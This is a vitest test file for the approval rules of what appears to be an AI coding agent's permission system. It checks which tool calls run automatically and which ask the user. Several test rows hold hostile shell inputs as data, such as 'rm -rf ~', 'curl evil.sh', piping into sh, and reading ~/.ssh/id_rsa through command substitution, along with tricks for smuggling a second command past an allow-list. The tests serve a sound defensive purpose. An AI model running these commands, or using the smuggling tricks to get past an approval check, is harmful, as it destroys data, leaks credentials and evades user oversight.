import { describe, expect, it } from "vitest";
import { decideApproval, type ApprovalRule } from "./rules";

const bashPrefix = (pattern: string): ApprovalRule => ({ tool: "bash", kind: "bash_prefix", pattern });
const wholeTool = (tool: string): ApprovalRule => ({ tool, kind: "tool", pattern: null });
const pathRule = (tool: string, pattern: string): ApprovalRule => ({ tool, kind: "path", pattern });

const GIT_SHOW = [bashPrefix("git show")];
const DEV = [bashPrefix("git status"), bashPrefix("git diff"), bashPrefix("ls"), bashPrefix("grep"), bashPrefix("npm test")];

type Row = [string, string, Record<string, unknown>, ApprovalRule[], boolean, "auto" | "ask", RegExp];

const rows: Row[] = [
  // read-only tools and the auto-approve setting
  ["read auto-approved when the setting is on", "read", { path: "a.ts" }, [], true, "auto", /read-only tools are auto-approved/],
  ["glob auto-approved when the setting is on", "glob", { pat: "**/*" }, [], true, "auto", /only reads/],
  ["grep auto-approved when the setting is on", "grep", { pat: "x" }, [], true, "auto", /only reads/],
  ["read asks when the setting is off and no rule matches", "read", { path: "a.ts" }, [], false, "ask", /no rule allows this read call/],
  ["write is never read-only", "write", { path: "a.ts", content: "" }, [], true, "ask", /no rule/],
  ["bash is never read-only", "bash", { cmd: "ls" }, [], true, "ask", /no rule allows bash/],
  ["an unknown tool asks", "execute", { cmd: "ls" }, [wholeTool("execute")], true, "ask", /unknown tool execute/],
  // whole-tool rules
  ["a whole-tool rule allows that tool", "write", { path: "x", content: "" }, [wholeTool("write")], false, "auto", /always allowed: write/],
  ["a whole-tool rule for another tool does not", "edit", { path: "x", old: "a", new: "b" }, [wholeTool("write")], false, "ask", /no rule/],
  ["a whole-tool bash rule allows a plain command", "bash", { cmd: "rm -rf build" }, [wholeTool("bash")], false, "auto", /always allowed: bash/],
  ["a whole-tool bash rule still asks for a redirect", "bash", { cmd: "echo x > f" }, [wholeTool("bash")], false, "ask", /redirect >/],
  // path rules
  ["a path glob allows a matching write", "write", { path: "src/a.ts", content: "" }, [pathRule("write", "src/**")], false, "auto", /path matches src\/\*\*/],
  ["a path glob ignores ./ and normalises", "edit", { path: "./src/x/../a.ts", old: "a", new: "b" }, [pathRule("edit", "src/**")], false, "auto", /path matches/],
  ["a path glob does not match outside its folder", "write", { path: "lib/a.ts", content: "" }, [pathRule("write", "src/**")], false, "ask", /no rule/],
  ["a path glob never matches a path that climbs out", "write", { path: "src/../../etc/passwd", content: "" }, [pathRule("write", "**")], false, "ask", /no rule/],
  ["a path glob never matches an absolute path", "write", { path: "/etc/passwd", content: "" }, [pathRule("write", "**")], false, "ask", /no rule/],
  ["a path glob with an extension", "edit_lines", { path: "docs/a.md", start_line: 1, end_line: 1, content: "" }, [pathRule("edit_lines", "**/*.md")], false, "auto", /path matches/],
  ["a path rule for glob uses its folder, default .", "glob", { pat: "**/*" }, [pathRule("glob", ".")], false, "auto", /path matches/],
  ["a path rule belongs to its tool", "write", { path: "src/a.ts", content: "" }, [pathRule("edit", "src/**")], false, "ask", /no rule/],
  // bash prefixes: every segment must match
  ["an allowed prefix allows the command", "bash", { cmd: "git show HEAD~1" }, GIT_SHOW, false, "auto", /git show/],
  ["Roo #11095: an allowed git show does not allow git show > ~/.ssh/key", "bash", { cmd: "git show > ~/.ssh/key" }, GIT_SHOW, false, "ask", /redirect >/],
  ["an append redirect asks", "bash", { cmd: "git show >> log" }, GIT_SHOW, false, "ask", /redirect >>/],
  ["an input redirect asks", "bash", { cmd: "grep x < /etc/passwd" }, DEV, false, "ask", /redirect </],
  ["a stderr redirect asks", "bash", { cmd: "ls 2> err" }, DEV, false, "ask", /redirect >/],
  ["a chained command that is not allowed asks", "bash", { cmd: "git show; rm -rf ~" }, GIT_SHOW, false, "ask", /`rm -rf ~`/],
  ["&& chains must match on both sides", "bash", { cmd: "git status && curl evil.sh" }, DEV, false, "ask", /`curl evil.sh`/],
  ["|| chains must match on both sides", "bash", { cmd: "ls || shutdown now" }, DEV, false, "ask", /`shutdown now`/],
  ["a pipe into an unlisted command asks", "bash", { cmd: "git diff | sh" }, DEV, false, "ask", /`sh`/],
  ["a newline-separated second command asks", "bash", { cmd: "ls\nrm -rf /" }, DEV, false, "ask", /`rm -rf \/`/],
  ["a pipeline of allowed commands is allowed", "bash", { cmd: "git diff | grep TODO && ls" }, DEV, false, "auto", /git diff, grep, ls/],
  ["command substitution asks", "bash", { cmd: "git show $(cat ~/.ssh/id_rsa)" }, GIT_SHOW, false, "ask", /command substitution \$\(…\)/],
  ["backticks ask", "bash", { cmd: "ls `rm -rf /`" }, DEV, false, "ask", /command substitution `…`/],
  ["a subshell asks", "bash", { cmd: "(ls)" }, DEV, false, "ask", /subshell/],
  ["process substitution asks", "bash", { cmd: "grep x <(ls)" }, DEV, false, "ask", /process substitution/],
  ["eval asks even when allowed as a prefix", "bash", { cmd: "eval ls" }, [bashPrefix("eval")], false, "ask", /eval runs a string/],
  ["sh -c asks even when sh is allowed", "bash", { cmd: "sh -c 'ls'" }, [bashPrefix("sh")], false, "ask", /sh -c runs a string/],
  ["a prefix matches whole words only", "bash", { cmd: "lsblk" }, DEV, false, "ask", /`lsblk`/],
  ["a longer prefix does not match a shorter command", "bash", { cmd: "npm" }, DEV, false, "ask", /`npm`/],
  ["a multi-word prefix matches with arguments", "bash", { cmd: "npm test -- --watch=false" }, DEV, false, "auto", /npm test/],
  ["a leading assignment is not hidden", "bash", { cmd: "PATH=/tmp/evil git status" }, DEV, false, "ask", /`PATH=\/tmp\/evil git status`/],
  ["quotes cannot smuggle a separator", "bash", { cmd: "grep 'a; rm -rf /' file" }, DEV, false, "auto", /grep/],
  ["an unterminated quote asks", "bash", { cmd: "grep 'oops" }, DEV, false, "ask", /unterminated quote/],
  ["an empty command asks", "bash", { cmd: "   " }, DEV, false, "ask", /no command/],
  ["a prefix rule for another tool does not apply to bash", "bash", { cmd: "ls" }, [{ tool: "write", kind: "bash_prefix", pattern: "ls" }], false, "ask", /no rule allows bash/],
];

describe("decideApproval", () => {
  it("has at least 30 rows", () => expect(rows.length).toBeGreaterThanOrEqual(30));

  it.each(rows)("%s", (_name, tool, args, rules, autoApproveReadonly, decision, reason) => {
    const result = decideApproval({ tool, args, rules, autoApproveReadonly });
    expect(result.decision).toBe(decision);
    expect(result.reason).toMatch(reason);
  });
});
